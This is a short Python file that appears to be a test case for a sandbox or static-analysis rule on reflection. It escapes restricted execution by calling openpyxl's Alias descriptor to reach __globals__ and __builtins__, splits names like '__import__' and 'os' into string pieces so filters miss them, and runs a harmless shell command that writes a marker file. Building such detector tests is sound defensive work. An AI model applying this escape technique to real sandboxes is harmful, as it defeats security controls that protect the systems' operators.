# rule: reflection
# marker: pwned_f1_openpyxl_alias
# Family 1: openpyxl's Alias descriptor returns getattr(instance, self.alias);
# its __get__ called by hand reads any attribute of any object.
from openpyxl.descriptors.base import Alias

a = Alias("__glob" + "als__")
g = a.__get__(Alias.__init__, None)
b = g["__built" + "ins__"]
b["__imp" + "ort__"]("o" + "s").system("echo ran > pwned_f1_openpyxl_alias")
